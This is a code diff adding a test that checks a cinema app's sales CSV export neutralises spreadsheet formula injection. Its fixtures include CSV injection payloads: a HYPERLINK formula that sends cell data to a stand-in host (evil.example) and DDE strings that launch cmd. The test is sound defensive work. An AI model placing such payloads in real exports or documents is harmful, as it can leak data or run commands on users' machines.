@@ -176,6 +176,32 @@ def test_csv_has_the_same_rows(sales, staff_user):
         for m in sorted(sales, key=lambda m: m["show"].date_time)]
 
 
+# Names a spreadsheet would run as formulas (OWASP's CSV injection), stored directly as staff or an old row could.
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+FORMULA_CINEMA = "+cmd|' /C calc'!A0"
+FORMULA_SCREENS = ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(staff_user):
+    movie = MovieFactory(title=FORMULA_TITLE)
+    cinema = CinemaFactory(name=FORMULA_CINEMA)
+    shows = [laid_out_show(movie=movie, screen=ScreenFactory(layout=AUDITORIUM, cinema=cinema, name=name),
+                           when=_at(1, 10 + index)) for index, name in enumerate(FORMULA_SCREENS)]
+    booking.booking_create(user=UserFactory(), show_id=shows[0].pk, seat_number=1)
+    response = client_for(staff_user).get(f"/reports/sales.csv?from={TODAY}&to={TODAY + timedelta(days=2)}")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
+    assert len(rows) == len(FORMULA_SCREENS)
+    for row in rows:
+        # A leading quote is how a spreadsheet is told "text"; what follows it is the stored name.
+        assert row["movie_title"] == "'" + FORMULA_TITLE
+        assert row["cinema_name"].startswith("'") and row["cinema_name"][1:].replace("\\|", "|") == FORMULA_CINEMA
+    screens = [row["screen_name"] for row in rows]
+    assert all(name.startswith("'") for name in screens), screens
+    assert [name[1:].replace("\\|", "|") for name in screens] == FORMULA_SCREENS
+    # Numbers, negative ones included, stay numbers.
+    assert rows[0]["tickets_sold"] == "1" and not rows[0]["revenue"].startswith("'")
+
+
 def test_admin_page_with_chart_and_tables(sales, staff_user, user):
     client = Client()
     client.force_login(user)
